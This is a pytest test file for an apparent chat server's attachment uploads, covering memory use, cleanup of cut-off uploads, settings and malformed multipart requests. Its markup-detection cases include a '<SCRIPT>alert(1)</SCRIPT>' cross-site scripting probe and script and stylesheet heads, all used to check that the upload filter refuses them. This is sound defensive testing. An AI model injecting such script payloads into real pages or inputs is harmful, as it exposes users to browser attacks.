        async with PeakRSS(server.pid) as rss:
            status, body, sha = await upload_stream(server, sid, token, 200 * MiB)
        assert status == 201, body
        assert body["attachment"]["size"] == 200 * MiB
        assert body["attachment"]["sha256"] == sha
        assert rss.growth_mib < RSS_BOUND_MIB, f"peak RSS grew by {rss.growth_mib:.1f} MiB"
    finally:
        await client.disconnect()


@pytest.mark.slow
async def test_a_refused_200_mib_upload_does_not_grow_server_memory(chatd_process: Any) -> None:
    server: ChatdProcess = await chatd_process(CHATD_UPLOAD_MAX_BYTES="1MiB")
    client, sid, token = await process_chat(server)
    try:
        await upload_stream(server, sid, token, 512 * 1024)
        async with PeakRSS(server.pid) as rss:
            try:
                status, body, _ = await upload_stream(server, sid, token, 200 * MiB)
            except aiohttp.ClientError:  # the server may close before the client is done
                status, body = 413, {}
        assert status == 413, body
        assert rss.growth_mib < RSS_BOUND_MIB, f"peak RSS grew by {rss.growth_mib:.1f} MiB"
        # Only the small warm-up file is stored; the refused one left nothing.
        assert len(os.listdir(server.upload_dir)) == 1
    finally:
        await client.disconnect()


@pytest.mark.slow
async def test_a_cut_off_upload_leaves_nothing_in_a_real_server(chatd_process: Any) -> None:
    # A real `chatd serve` does not cancel handlers when a client goes away (aiohttp's test
    # server does): the cut-off reaches the upload as a broken body instead.
    server: ChatdProcess = await chatd_process()
    client, sid, token = await process_chat(server)
    try:
        host, port = server.url.removeprefix("http://").split(":")
        data = log_text(20000)
        body = multipart_head("B0und") + data + b"\r\n--B0und--\r\n"
        reader, writer = await asyncio.open_connection(host, int(port))
        path = f"/api/sessions/{sid}/attachments"
        writer.write(request_head(path, token, "B0und", len(body)) + body[: len(body) // 2])
        await writer.drain()
        for _ in range(100):
            if any(n.endswith(".part") for n in os.listdir(server.upload_dir)):
                break
            await asyncio.sleep(0.02)
        writer.transport.abort()
        assert await wait_until_empty(server.upload_dir) == []
        resumed = await client.call(
            "session:resume", {"session_id": sid, "resume_token": token, "after_seq": 0},
            namespace="/customer",
        )
        assert all(m["kind"] != "attachment" for m in resumed["messages"])
        status, ok, _ = await upload_stream(server, sid, token, 1000)
        assert status == 201, ok
    finally:
        await client.disconnect()


# ---------------------------------------------------------------------- configuration


def test_upload_settings_take_sizes_with_units_and_name_known_types() -> None:
    settings = load_settings(env={
        "CHATD_UPLOAD_MAX_BYTES": "10MiB",
        "CHATD_UPLOAD_SESSION_MAX_BYTES": "1GiB",
        "CHATD_UPLOAD_TYPES": "png, text,pdf",
    })
    assert settings.upload_max_bytes == 10 * MiB
    assert settings.upload_session_max_bytes == 1024 * MiB
    assert settings.upload_types == ("png", "text", "pdf")
    assert load_settings(env={}).upload_types == tuple(KINDS)
    with pytest.raises(ConfigError) as bad:
        load_settings(env={
            "CHATD_UPLOAD_MAX_BYTES": "25 parsecs",
            "CHATD_UPLOAD_TYPES": "png,svg",
        })
    problems = "\n".join(bad.value.problems)
    assert "CHATD_UPLOAD_MAX_BYTES" in problems and "'svg' is not one of" in problems
    with pytest.raises(ConfigError, match="CHATD_UPLOAD_MAX_BYTES must not be above"):
        load_settings(env={"CHATD_UPLOAD_MAX_BYTES": "300MiB"})


async def test_types_left_out_of_the_configuration_are_refused(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory(upload_types=("png", "text")))
    status, body = await chat.upload(tiny_pdf(), "manual.pdf")
    assert status == 415
    assert body["error"]["message"].endswith("Allowed: PNG images; text logs "
                                             "(.log, .txt, .json, .csv, .xml, .yaml, .har).")
    assert (await chat.upload(png(), "shot.png"))[0] == 201


async def post_raw(chat: Chat, body: bytes, content_type: str) -> tuple[int, Any]:
    headers = {"Authorization": f"Bearer {chat.customer_token}", "Content-Type": content_type}
    async with aiohttp.ClientSession() as http:
        async with http.post(
            f"{chat.chatd.url}/api/sessions/{chat.session_id}/attachments",
            data=body, headers=headers,
        ) as r:
            return r.status, await r.json()


def field(name: str, data: bytes, filename: str | None = None, extra: str = "") -> bytes:
    disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
    return (f"--B0und\r\nContent-Disposition: {disposition}\r\n{extra}\r\n").encode() + (
        data + b"\r\n"
    )


MALFORMED = [
    ("two-files", field("file", b"a\n", "a.log") + field("file", b"b\n", "b.log")),
    ("no-file", field("note", b"hello")),
    ("too-many-fields", b"".join(field(f"f{i}", b"x") for i in range(8))
     + field("file", b"a\n", "a.log")),
    ("large-other-field", field("note", b"x" * 70_000) + field("file", b"a\n", "a.log")),
    ("empty-file", field("file", b"", "empty.log")),
    ("base64-file", field("file", b"aGVsbG8K", "a.log", "Content-Transfer-Encoding: base64\r\n")),
]


@pytest.mark.parametrize("body", [m[1] for m in MALFORMED], ids=[m[0] for m in MALFORMED])
async def test_malformed_upload_requests_are_refused_and_leave_nothing(
    chatd_factory: Any, body: bytes
) -> None:
    chat = await open_chat(await chatd_factory())
    status, answer = await post_raw(chat, body + b"--B0und--\r\n",
                                    "multipart/form-data; boundary=B0und")
    assert status == 400 and answer["error"]["code"] == "bad_request", answer
    assert chat.stored_files() == []
    assert all(m.kind.value != "attachment" for m in await chat.messages())


async def test_a_body_that_is_not_multipart_is_refused(chatd_factory: Any) -> None:
    chat = await open_chat(await chatd_factory())
    status, answer = await post_raw(chat, b"2025 ERROR x\n", "text/plain")
    assert status == 400 and "multipart/form-data" in answer["error"]["message"]
    # The other fields are fine next to the file, and the file may come after them.
    status, answer = await post_raw(
        chat, field("note", b"see attached") + field("file", b"a\n", "a.log") + b"--B0und--\r\n",
        "multipart/form-data; boundary=B0und",
    )
    assert status == 201, answer


async def test_head_of_an_attachment_gives_its_headers_without_the_body(
    chatd_factory: Any,
) -> None:
    chat = await open_chat(await chatd_factory())
    _, body = await chat.upload(log_text(), "server.log")
    async with aiohttp.ClientSession() as http:
        async with http.head(
            chat.chatd.url + body["attachment"]["url"],
            headers={"Authorization": f"Bearer {chat.customer_token}"},
        ) as r:
            assert r.status == 200
            assert r.headers["Content-Length"] == str(len(log_text()))
            assert r.headers["Content-Security-Policy"] == CSP
            assert await r.read() == b""


MARKUP = [
    (b"<!DOCTYPE html><html>", True),
    (b'<?xml version="1.0"?>\n<!-- exported -->\n<!DOCTYPE html PUBLIC "x">\n<html>', True),
    (b"\xef\xbb\xbf  <SCRIPT>alert(1)</SCRIPT>", True),
    (b'<x:html xmlns:x="urn:x">', True),
    (b"<!-- -- --><p>hello", True),
    (b'<?xml version="1.0"?>\n<?xml-stylesheet href="x.xsl"?><doc/>', True),
    (b"#!/usr/bin/env python\nprint(1)\n", True),
    (b'<?xml version="1.0"?><!-- settings --><config><a>1</a></config>', False),
    (b"<!DOCTYPE note><note/>", False),
    (b'{"log": {"entries": [{"text": "<html><script>x</script>"}]}}', False),
    (b"12:00 GET / <script> blocked\n", False),
    (b"<!-- a comment that never ends", False),
]


@pytest.mark.parametrize(("head", "refused"), MARKUP, ids=[str(i) for i in range(len(MARKUP))])
def test_pages_svg_and_scripts_are_told_from_xml_json_and_logs(head: bytes, refused: bool) -> None:
    assert (markup_problem(head) is not None) is refused


def test_unterminated_prologs_are_not_taken_for_markup() -> None:
    # Heads made of nothing but openings: the scan ends at the head's end, finding no element.
    for head in (b"<?" * 4096, b"<!" * 4096, b"<!--" * 2048, b"<" * 8192):
        assert markup_problem(head) is None
